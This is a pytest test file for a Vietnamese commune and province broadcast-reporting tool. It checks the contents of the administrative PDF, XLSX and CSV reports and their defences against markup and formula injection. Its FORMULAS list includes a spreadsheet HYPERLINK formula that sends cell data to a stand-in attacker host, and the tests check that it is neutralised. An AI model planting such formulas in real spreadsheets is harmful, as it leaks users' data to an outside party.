"""Report files a district files: the administrative PDF's parts, totals, and no injection."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader
from sqlalchemy import select

import tests.helpers.reports
from loa.compliance.export import neutral
from loa.db import transaction
from loa.playlists.models import Campaign
from loa.services import Services
from loa.stations.models import Station
from tests.conftest import Loa
from tests.helpers.reports import JANUARY, pdf_text
from tests.helpers.web import login

december = tests.helpers.reports.december  # a shared fixture

pytestmark = pytest.mark.both_databases  # the database is the point here

SIGNER = ["--signer-name", "Nguyễn Văn An", "--signer-title", "Chủ tịch", "--place", "Thủy Nguyên"]


@pytest.fixture
def january(env: dict[str, str]) -> Loa:
    return Loa({**env, "LOA_NOW": JANUARY.isoformat()})


def commune_pdf(loa: Loa, tmp_path: Path, *extra: str) -> str:
    out = tmp_path / "bao-cao.pdf"
    loa("audit", "report", "--unit", "11560", "--month", "2026-12", "--format", "pdf",
        "--output", str(out), *extra)
    return pdf_text(out.read_bytes())


@pytest.mark.usefixtures("december")
def test_commune_report_reads_as_an_administrative_report(january: Loa, tmp_path: Path) -> None:
    assert "Nguyễn Văn An" in january("unit", "set", "11560", *SIGNER)
    text = commune_pdf(january, tmp_path, "--number", "12")
    assert "ỦY BAN NHÂN DÂN PHƯỜNG 11560" in text and "Số: 12/BC-UBND" in text
    assert "Thủy Nguyên, ngày 01 tháng 01 năm 2027" in text  # 08:00 on 1 January in Vietnam
    assert "Kính gửi: Ủy ban nhân dân Thành phố Hải Phòng" in text
    # The province made the programme: the commune relayed it, three times, 12 minutes each.
    assert "1. Số chương trình đã sản xuất và phát: 1 (tự sản xuất: 0; tiếp phát: 1)." in text
    assert ("“Chương trình 31 2026-12” (tháng 12/2026; tiếp phát từ Thành phố Hải Phòng; "
            "duyệt lúc 08:00 01/12/2026)") in text
    assert "2. Số lượt phát đạt yêu cầu: 3 lượt." in text
    assert "3. Tổng thời lượng phát sóng: 36 phút." in text
    assert "4. Số đài tham gia: 1/1 đài." in text
    assert "Nơi nhận: - Ủy ban nhân dân Thành phố Hải Phòng (để báo cáo); - Lưu: VT." in text
    assert "TM. ỦY BAN NHÂN DÂN CHỦ TỊCH Nguyễn Văn An" in text
    # Cleared again, the signer and number are blanks for the clerk, the place the province's.
    january("unit", "set", "11560", "--signer-name", "", "--signer-title", "", "--place", "")
    text = commune_pdf(january, tmp_path)
    assert "Số: ……/BC-UBND" in text and "Hải Phòng, ngày 01 tháng 01 năm 2027" in text
    assert "TM. ỦY BAN NHÂN DÂN …… ……" in text


@pytest.mark.usefixtures("december")
def test_bad_unit_settings_and_numbers_are_refused_in_vietnamese(
    january: Loa, tmp_path: Path, client: Any
) -> None:
    assert "Không tìm thấy đơn vị" in january("unit", "set", "99999", *SIGNER, ok=False)
    assert "tối đa 200" in january("unit", "set", "11560", "--signer-name", "A" * 201, ok=False)
    assert "Số văn bản" in january("audit", "report", "--unit", "11560", "--month", "2026-12",
                                   "--format", "pdf", "--output", str(tmp_path / "x.pdf"),
                                   "--number", "12/BC", ok=False)
    login(client, "xa")
    answer = client.get("/audit.pdf?period=2026-12&so=<b>")
    assert answer.status_code == 400 and "Số văn bản" in answer.get_data(as_text=True)


@pytest.mark.usefixtures("december")
def test_province_report_and_workbook_carry_the_same_totals(client: Any) -> None:
    login(client, "tinh")
    text = pdf_text(client.get("/audit.pdf?period=2026-H2&so=7").data)
    assert "Số: 7/BC-UBND" in text and "Kính gửi: Bộ Văn hóa, Thể thao và Du lịch" in text
    assert "(tự sản xuất: 1; tiếp phát: 0)" in text and "4. Số đài tham gia: 1/2 đài." in text
    assert "Hải Phòng, ngày 01 tháng 12 năm 2026" in text
    book = load_workbook(io.BytesIO(client.get("/audit.xlsx?period=2026-H2").data))
    rows = [r for r in book["Tổng hợp"].iter_rows(values_only=True) if any(r)]
    facts = {r[0]: r[1] for r in rows}
    assert facts["Số chương trình"] == 1 and facts["Tự sản xuất"] == 1
    assert facts["Số lượt phát đạt yêu cầu"] == 3 and facts["Tổng thời lượng phát (phút)"] == 36
    assert facts["Số đài tham gia"] == 1 and facts["Tổng số đài"] == 2
    assert ("Chương trình 31 2026-12", "2026-12", "Thành phố Hải Phòng", "Tự sản xuất",
            "duyệt lúc 08:00 01/12/2026") in rows
    assert ("TN", "Đài TN", "CDS", 1, 1) in rows  # the station summary is still there


@pytest.mark.usefixtures("december")
@pytest.mark.parametrize(
    "name", ['<img src="{png}" width="400" height="400"/>', "<para>", "</para><b>&", "<font"]
)
def test_markup_in_names_is_printed_as_text(
    client: Any, services: Services, tmp_path: Path, name: str
) -> None:
    picture = tmp_path / "local.png"
    Image.new("RGB", (40, 40), "red").save(picture)
    name = name.format(png=picture)
    with transaction(services.sessions) as s:
        s.scalars(select(Station).where(Station.code == "TH")).one().name = name
        s.scalars(select(Campaign)).one().topic = f"Chuyển đổi số {name}"
    login(client, "tinh")
    answer = client.get("/audit.pdf?period=2026-12")
    assert answer.status_code == 200
    assert not [i for page in PdfReader(io.BytesIO(answer.data)).pages for i in page.images]
    text = "".join(pdf_text(answer.data).split())  # a long name wraps inside its cell
    assert "".join(f"{name} (TH)".split()) in text
    assert "".join(f"“CHUYỂN ĐỔI SỐ {name.upper()}”".split()) in text


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.usefixtures("december")
@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_in_names_stay_text_in_the_workbook_and_csv(
    client: Any, services: Services, formula: str
) -> None:
    with transaction(services.sessions) as s:
        s.scalars(select(Station).where(Station.code == "TH")).one().name = formula
    login(client, "tinh")
    book = load_workbook(io.BytesIO(client.get("/audit.xlsx?period=2026-12").data))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]  # openpyxl keeps formulas as type "f"
    # XML keeps no bare CR: a saved "\r" reads back as "\n", still behind the quote.
    assert ("'" + formula).replace("\r", "\n") in {str(c.value) for c in cells}
    for ws in book:
        assert not any(str(c.value).startswith(("=", "+", "-", "@", "\t", "\r"))
                       for row in ws.iter_rows() for c in row if c.value is not None)
    lines = list(csv.DictReader(io.StringIO(client.get("/audit.csv?period=2026-12")
                                            .get_data(as_text=True).lstrip("\ufeff"))))
    assert {line["station_name"] for line in lines if line["station"] == "TH"} == {"'" + formula}


@pytest.mark.parametrize(
    ("value", "shown"),
    [("=1+1", "'=1+1"), ("Đài -", "Đài -"), ("-", "'-"), (-5, -5), (None, None), ("", "")],
)
def test_neutral_cells(value: object, shown: object) -> None:
    assert neutral(value) == shown
